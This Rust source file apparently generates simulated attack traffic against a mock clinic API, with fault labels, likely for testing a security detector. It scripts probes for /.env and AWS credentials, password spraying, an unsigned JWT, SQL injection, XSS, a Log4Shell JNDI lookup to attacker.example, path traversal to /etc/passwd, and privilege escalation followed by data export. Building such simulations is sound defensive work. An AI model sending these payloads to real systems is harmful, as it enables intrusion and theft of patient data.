//! An attacker with a patient's account of its own: looks around, tries every door without a key, then uses
//! what it found.

use axum::http::Method;
use serde_json::json;

use super::{Scene, Step};
use crate::credentials::{PARTNER_KEY, PASSWORD};
use crate::seed::{FIRST_APPOINTMENT, FIRST_PRESCRIPTION};
use crate::state::Clinic;
use crate::traffic::call::{Call, Credential};

pub(super) const USER_AGENT: &str = "python-requests/2.32.5";
const SCANNER_USER_AGENT: &str = "Mozilla/5.0 zgrab/0.x";

pub(super) const USUAL: &[Step] = &[guess_password, read_prescription, read_appointment, look_around];

const LOOKED_FOR: [&str; 14] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpinfo.php",
    "/actuator/env",
    "/server-status",
    "/.aws/credentials",
    "/admin/",
    "/swagger.json",
    "/v3/api-docs",
    "/backup.zip",
    "/config.yml",
    "/console/login",
    "/cgi-bin/luci",
];

const PASSWORDS: [&str; 12] = [
    "123456",
    "password",
    "qwerty",
    "letmein",
    "clinic2026",
    "Welcome1",
    "iloveyou",
    "dragon",
    "monkey",
    "sunshine",
    "football",
    "admin123",
];

/// Every documented operation that should ask for a credential and is in use, with a target of its form.
const DOORS: [(Method, &str, &str); 45] = [
    (Method::DELETE, "/v2/sessions/current", "/v2/sessions/current"),
    (Method::GET, "/v2/me", "/v2/me"),
    (Method::GET, "/v2/patients", "/v2/patients"),
    (Method::POST, "/v2/patients", "/v2/patients"),
    (Method::GET, "/v2/patients/{patientId}", "/v2/patients/{patient}"),
    (Method::PATCH, "/v2/patients/{patientId}", "/v2/patients/{patient}"),
    (Method::GET, "/v2/patients/{patientId}/record", "/v2/patients/{patient}/record"),
    (Method::GET, "/v2/patients/{patientId}/appointments", "/v2/patients/{patient}/appointments"),
    (Method::GET, "/v2/patients/{patientId}/lab-results", "/v2/patients/{patient}/lab-results"),
    (Method::GET, "/v2/patients/{patientId}/insurance", "/v2/patients/{patient}/insurance"),
    (Method::PUT, "/v2/patients/{patientId}/insurance", "/v2/patients/{patient}/insurance"),
    (Method::GET, "/v2/appointments", "/v2/appointments"),
    (Method::POST, "/v2/appointments", "/v2/appointments"),
    (Method::GET, "/v2/appointments/{appointmentId}", "/v2/appointments/48211"),
    (Method::PATCH, "/v2/appointments/{appointmentId}", "/v2/appointments/48211"),
    (Method::DELETE, "/v2/appointments/{appointmentId}", "/v2/appointments/48211"),
    (Method::GET, "/v2/availability/{date}", "/v2/availability/2026-11-09"),
    (Method::GET, "/v2/clinicians", "/v2/clinicians"),
    (Method::GET, "/v2/clinicians/{slug}", "/v2/clinicians/{clinician}"),
    (Method::GET, "/v2/providers/{slug}", "/v2/providers/{clinician}"),
    (Method::GET, "/v2/prescriptions", "/v2/prescriptions"),
    (Method::POST, "/v2/prescriptions", "/v2/prescriptions"),
    (Method::GET, "/v2/prescriptions/{prescriptionId}", "/v2/prescriptions/90017"),
    (Method::POST, "/v2/prescriptions/{prescriptionId}/refills", "/v2/prescriptions/90017/refills"),
    (Method::GET, "/v2/payments", "/v2/payments"),
    (Method::POST, "/v2/payments", "/v2/payments"),
    (Method::GET, "/v2/payments/{paymentId}", "/v2/payments/{payment}"),
    (Method::GET, "/v2/payments/{paymentId}/receipt", "/v2/payments/{payment}/receipt"),
    (Method::POST, "/v2/payments/{paymentId}/refunds", "/v2/payments/{payment}/refunds"),
    (Method::GET, "/v2/partner/exports", "/v2/partner/exports"),
    (Method::POST, "/v2/partner/exports", "/v2/partner/exports"),
    (Method::GET, "/v2/partner/exports/{exportId}", "/v2/partner/exports/exp-2026-10"),
    (Method::GET, "/v2/partner/exports/{exportId}/download", "/v2/partner/exports/exp-2026-10/download"),
    (Method::GET, "/v2/partner/eligibility/{memberId}", "/v2/partner/eligibility/XGA100000001"),
    (Method::GET, "/v2/batch/claims", "/v2/batch/claims"),
    (Method::PUT, "/v2/batch/claims/{claimNumber}/status", "/v2/batch/claims/CLM-2026-001204/status"),
    (Method::GET, "/v2/admin/users", "/v2/admin/users"),
    (Method::PUT, "/v2/admin/users/{userId}/role", "/v2/admin/users/1008/role"),
    (Method::GET, "/v2/admin/audit", "/v2/admin/audit"),
    (Method::GET, "/v2/reports", "/v2/reports"),
    (Method::GET, "/v2/reports/{name}", "/v2/reports/revenue"),
    (Method::GET, "/v2/events", "/v2/events"),
    (Method::GET, "/v2/chat", "/v2/chat"),
    (Method::POST, "/v2/graphql", "/v2/graphql"),
    (Method::POST, "/v2/beta/triage", "/v2/beta/triage"),
];

/// The attack from its first look to covering its tracks. `account` is the index of the attacker's own patient.
pub(super) fn opening(clinic: &Clinic, account: usize) -> Vec<Call> {
    let mut plot: Vec<Call> = LOOKED_FOR.iter().map(|path| look(path)).collect();
    plot.extend(DOORS.iter().map(|door| without_credential(door, clinic)));
    plot.extend(lab_results_of_strangers(clinic));
    plot.push(debug_page());
    plot.extend(wrong_credentials());
    plot.extend(PASSWORDS.iter().map(|password| sign_in_with(clinic, password)));
    plot.extend((0..7).map(|_| reset(clinic)));
    plot.extend([introspect(Credential::None), introspect(Credential::Own)]);
    plot.extend(own_business(clinic, account));
    plot.extend((0..10).map(|nth| prescription(FIRST_PRESCRIPTION + nth)));
    plot.extend((0..4).map(|nth| appointment(FIRST_APPOINTMENT + nth * 6)));
    plot.extend(clinic.patients.iter().take(2).map(|patient| {
        Call::get("/v2/patients/{patientId}", format!("/v2/patients/{}", patient.id)).attack()
    }));
    plot.extend(injections());
    plot.extend(rise(clinic, account));
    plot
}

fn look(path: &str) -> Call {
    let mut call = Call::get("", path).attack().with(Credential::None);
    call.template = None;
    call.header("user-agent", SCANNER_USER_AGENT)
}

fn without_credential((method, template, target): &(Method, &'static str, &str), clinic: &Clinic) -> Call {
    let target = target
        .replace("{patient}", clinic.patients.first().map_or("", |it| &it.id))
        .replace("{clinician}", clinic.clinicians.first().map_or("", |it| &it.slug))
        .replace("{payment}", clinic.payments.first().map_or("", |it| &it.id));
    Call::new(method.clone(), template, target).attack().with(Credential::None)
}

fn lab_results_of_strangers(clinic: &Clinic) -> impl Iterator<Item = Call> {
    clinic.lab_results.iter().take(4).map(|result| {
        Call::get("/v2/lab-results/{labResultId}", format!("/v2/lab-results/{}", result.id))
            .attack()
            .with(Credential::None)
            .fault("no-authentication")
    })
}

fn debug_page() -> Call {
    Call::plain(Method::GET, "/internal/debug/config")
        .attack()
        .with(Credential::None)
        .fault("shadow-debug-config")
}

fn wrong_credentials() -> [Call; 3] {
    // Its header says that it is not signed at all.
    let unsigned = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIzMDAxIiwicm9sZSI6ImFkbWluIn0.";
    [
        Call::plain(Method::GET, "/v2/me").attack().with(Credential::Bearer(unsigned.to_owned())),
        Call::plain(Method::GET, "/v2/admin/users").attack().with(Credential::Bearer("admin".to_owned())),
        Call::plain(Method::GET, "/v2/partner/exports").attack().with(Credential::Key("test")),
    ]
}

fn sign_in_with(clinic: &Clinic, password: &str) -> Call {
    Call::plain(Method::POST, "/v2/sessions")
        .attack()
        .with(Credential::None)
        .body(json!({ "email": clinic.users.last().map(|user| &user.email), "password": password }))
        .fault("no-rate-limit")
}

fn reset(clinic: &Clinic) -> Call {
    Call::plain(Method::POST, "/v2/password-resets")
        .attack()
        .with(Credential::None)
        .body(json!({ "email": clinic.users.last().map(|user| &user.email) }))
}

fn introspect(credential: Credential) -> Call {
    let query = "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...T } } } \
                 fragment T on __Type { kind name fields(includeDeprecated: true) { name args { name type { ...R } } \
                 type { ...R } } enumValues(includeDeprecated: true) { name } } \
                 fragment R on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }";
    Call::plain(Method::POST, "/v2/graphql")
        .attack()
        .with(credential)
        .body(json!({ "query": query, "operationName": "IntrospectionQuery" }))
        .fault("graphql-introspection")
}

/// The account is real, and uses of it are nothing to block.
fn own_business(clinic: &Clinic, account: usize) -> Vec<Call> {
    let own = clinic.patients.get(account);
    vec![
        Call::plain(Method::POST, "/v2/sessions")
            .with(Credential::None)
            .body(json!({ "email": own.map(|patient| &patient.email), "password": PASSWORD }))
            .expect(&[201]),
        Call::plain(Method::GET, "/v2/me"),
        Call::get("/v2/patients/{patientId}", format!("/v2/patients/{}", own.map_or("", |it| &it.id))),
        Call::plain(Method::GET, "/v2/prescriptions"),
        // A page on another site, with the account's owner signed in.
        Call::plain(Method::GET, "/v2/me")
            .attack()
            .header("origin", "https://prizes.attacker.example")
            .fault("cors-reflected-origin"),
    ]
}

fn prescription(id: u32) -> Call {
    Call::get("/v2/prescriptions/{prescriptionId}", format!("/v2/prescriptions/{id}")).attack().fault("bola")
}

fn appointment(id: u32) -> Call {
    Call::get("/v2/appointments/{appointmentId}", format!("/v2/appointments/{id}")).attack()
}

fn injections() -> [Call; 5] {
    [
        Call::get("/v2/clinicians/{slug}", "/v2/clinicians/amara'%20OR%20'1'='1").attack(),
        Call::get("/v2/appointments", "/v2/appointments?date=2026-11-03'%3BDROP%20TABLE%20patients--")
            .attack(),
        Call::get("/v2/announcements", "/v2/announcements?q=%3Cscript%3Ealert(1)%3C/script%3E")
            .attack()
            .with(Credential::None),
        Call::get("/health", "/health")
            .attack()
            .with(Credential::None)
            .header("x-api-version", "${jndi:ldap://attacker.example/a}"),
        Call::get("/v2/departments/{slug}/hours", "/v2/departments/..%2f..%2fetc%2fpasswd/hours")
            .attack()
            .with(Credential::None),
    ]
}

/// From patient to staff to administrator, and back so that nobody notices.
fn rise(clinic: &Clinic, account: usize) -> Vec<Call> {
    let own_id = clinic.patients.get(account).map_or("", |patient| &patient.id);
    let own_user = clinic.users.get(account).map_or(0, |user| user.user_id);
    let role = |role: &str| {
        Call::new(Method::PUT, "/v2/admin/users/{userId}/role", format!("/v2/admin/users/{own_user}/role"))
            .attack()
            .body(json!({ "role": role }))
            .fault("bfla")
    };
    let report = |name: &str, month: &str| {
        Call::get("/v2/reports/{name}", format!("/v2/reports/{name}?month={month}"))
            .attack()
            .fault("stack-trace")
    };
    let stolen = |export: &str| format!("/v2/partner/exports/{export}/download?access_token={PARTNER_KEY}");
    let export = |id: &str| {
        Call::get("/v2/partner/exports/{exportId}/download", stolen(id))
            .attack()
            .with(Credential::None)
            .fault("token-in-url")
    };
    vec![
        Call::plain(Method::GET, "/v2/admin/users").attack(),
        Call::plain(Method::GET, "/v2/admin/audit").attack(),
        Call::plain(Method::GET, "/v2/patients").attack(),
        report("revenue", "2026-13"),
        report("utilisation", "0-0"),
        Call::new(Method::PATCH, "/v2/patients/{patientId}", format!("/v2/patients/{own_id}"))
            .attack()
            .body(json!({ "phone": "+1-617-555-0199", "role": "staff" }))
            .fault("mass-assignment"),
        Call::get("/v2/patients", "/v2/patients?limit=50").attack().fault("excess-fields"),
        Call::get("/v2/patients", "/v2/patients?limit=50&offset=50").attack().fault("excess-fields"),
        role("admin"),
        Call::plain(Method::GET, "/v2/admin/users").attack(),
        export("exp-2026-10"),
        export("exp-2026-09"),
        role("patient"),
    ]
}

fn guess_password(scene: &mut Scene) -> Call {
    let password = format!("Winter20{:02}!", scene.made % 100);
    let clinic = std::sync::Arc::clone(&scene.clinic);
    sign_in_with(&clinic, &password)
}

fn read_prescription(scene: &mut Scene) -> Call {
    prescription(FIRST_PRESCRIPTION + (scene.made % 150) as u32)
}

fn read_appointment(scene: &mut Scene) -> Call {
    appointment(FIRST_APPOINTMENT + (scene.made % 100) as u32 * 3)
}

fn look_around(scene: &mut Scene) -> Call {
    look(scene.word(&LOOKED_FOR))
}
